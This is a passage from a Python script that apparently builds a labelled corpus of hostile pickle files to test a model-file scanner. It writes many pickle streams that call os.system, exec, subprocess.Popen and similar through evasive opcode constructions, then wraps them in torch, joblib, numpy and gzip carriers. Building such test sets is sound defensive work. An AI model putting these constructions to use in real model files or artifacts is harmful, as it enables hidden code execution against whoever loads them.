    yield "cloudpickle-function", M, "system|_make_function|_builtin_type", Asm(4).glob("cloudpickle.cloudpickle", "_make_function").raw(b"(").call("marshal", "loads", code).value({}).value("f").raw(b"tR)R").stop()
    yield "dill-main-dict", N, "__main__|__builtin__", Asm(2).glob("__builtin__", "__main__").value("x").value(Name("os", "system")).raw(b"s").stop()
    yield "exec-empty", M, "exec", Asm(2).call("builtins", "exec", "").stop()
    yield "gc-get_objects", N, "gc|get_objects", Asm(2).call("gc", "get_objects").stop()
    yield "thread-start", N, "start_new_thread", Asm(2).call("_thread", "start_new_thread", Name("os", "system"), (COMMAND,)).stop()
    yield "signal-handler", N, "signal", Asm(2).call("signal", "signal", 14, Name("os", "system")).stop()
    yield "atexit", N, "atexit|register", Asm(2).call("atexit", "register", Name("os", "system"), COMMAND).stop()
    yield "sys-setprofile", N, "setprofile", Asm(2).call("sys", "setprofile", Name("builtins", "exec")).stop()
    yield "elf-in-pickle", N, "ELF|executable|program", Asm(2).value({"blob": b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\0\x3e\0\x01\0\0\0" + b"\0" * 512}).stop()
    yield "dup-then-reduce", M, "system", Asm(2).glob("os", "system").raw(b"20").value((COMMAND,)).raw(b"R").stop()
    yield "list-in-args", M, "system", Asm(2).glob("os", "system").raw(b"]").value(COMMAND).raw(b"a0").value((COMMAND,)).raw(b"R").stop()
    yield "proto-6", N, "system", b"\x80\x06" + bytes(Asm().call("os", "system", COMMAND)) + b"."
    yield "utf8-global", N, "é", Asm(2).call("modulé", "fonction", COMMAND).stop()
    yield "backslash-global", N, "x6f|system", Asm(2).call("\\x6fs", "system", COMMAND).stop()
    yield "storage-name", M, "system", Asm(2).raw(b"(").text("storage").glob("os", "system").text("0").text("cpu").number(1).raw(b"tQ0").call("os", "system", COMMAND).stop()
    yield "reconstructor-str", M, "system", Asm(2).call("copyreg", "_reconstructor", Name("builtins", "str"), Name("builtins", "str"), "os").text("system").raw(b"\x93").value((COMMAND,)).raw(b"R").stop()
    yield "twice-partial", M, "exec", Asm(2).glob("functools", "partial").raw(b"(").glob("functools", "partial").items([Name("builtins", "exec")]).raw(b"tR").text(SOURCE).raw(b"tR)R").stop()
    yield "max-key-by-NEWOBJ_EX", N, "system", Asm(4).glob("builtins", "max").items([["echo assay"]]).raw(b"t}").text("key").glob("os", "system").raw(b"s\x92").stop()
    yield "filter-list", M, "system", Asm(4).glob("builtins", "list").raw(b"(").glob("builtins", "filter").items([Name("os", "system"), [COMMAND]]).raw(b"tRtR").stop()
    yield "getattr-getattr-import", M, "system", Asm(4).glob("builtins", "getattr").raw(b"(").call("builtins", "__import__", "os").text("sys" + "tem").raw(b"tR").value((COMMAND,)).raw(b"R").stop()
    yield "gateway-re-export", M, "Popen|subprocess", Asm(4).stack_call("distutils.spawn", "subprocess.Popen", ["echo", "assay"]).stop()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out")
    parser.add_argument("--names", default=NAMES)
    options = parser.parse_args()
    manifest = []
    taken = set()

    def write(path, data, expected, needle, note):
        if path in taken:
            return
        taken.add(path)
        full = os.path.join(options.out, path)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as file:
            file.write(data)
        manifest.append((path, expected, needle, note))

    constructions = dict(CONSTRUCTIONS)
    # 1. Every dangerous name, the direct forms and everyday carriers in turn.
    everyday = [by_name(c) for c in ("raw.pkl", "torch-zip.pt", "raw.bin", "legacy-slot4.pt", "zlib.joblib", "object.npy", "gzipped.pkl.gz")]
    for number, (capability, module, name) in enumerate(names(options.names)):
        form = DIRECT[number % len(DIRECT)]
        carrier, wrap, _ = everyday[number % len(everyday)]
        stream = constructions[form](module, name, arguments(capability)).stop()
        path = "names/%s/%04d-%s.%s-%s" % (capability.replace("+", "_").replace("|", "_"), number, module, name, carrier)
        last = name.rsplit(".", 1)[-1]
        write(path, wrap(stream), expectation(capability), last, "%s.%s by %s in %s" % (module, name, form, carrier))

    # 2. Every construction, with a few names.
    for form, build in CONSTRUCTIONS:
        for capability, module, name in CORE:
            stream = build(module, name, arguments(capability)).stop()
            write("constructions/%s/%s.%s.pkl" % (form, module, name), stream, M, name, "%s.%s by %s" % (module, name, form))

    # 3. Every carrier, with a few payloads.
    payloads = [
        ("system", "system", global_reduce(2)("os", "system", (COMMAND,)).stop()),
        ("exec", "exec", stack_global(4)("builtins", "exec", (SOURCE,)).stop()),
        ("text", "getoutput", global_reduce(0)("commands", "getoutput", (COMMAND,)).stop()),
        ("popen", "Popen", memo_shuffled("subprocess", "Popen", (["echo", "assay"],)).stop()),
        ("getattr", "popen", import_module_getattr("os", "popen", (COMMAND,)).stop()),
    ]
    for carrier, wrap, expected in CARRIERS:
        for tag, needle, stream in payloads:
            write("carriers/%s/%s" % (tag, carrier), wrap(stream), expected, needle if expected == M else "", "%s in %s" % (tag, carrier))

    # 4. Everything that is no plain call of a listed name: alone, and in three carriers.
    for tag, expected, needle, stream in specials():
        write("specials/%s.pkl" % tag, stream, expected, needle, tag)
        for carrier in ("torch-zip.pt", "legacy-slot4.pt", "zlib.joblib"):
            write("specials/%s-%s" % (tag, carrier), by_name(carrier)[1](stream), expected, needle, tag + " in " + carrier)

    with open(options.out.rstrip("/") + ".tsv", "w", encoding="utf-8") as file:
        file.write("path\texpected\texplain\tnote\n")
        for row in manifest:
            file.write("\t".join(row) + "\n")
    print("%d hostile files in %s" % (len(manifest), options.out))


if __name__ == "__main__":
    sys.exit(main())
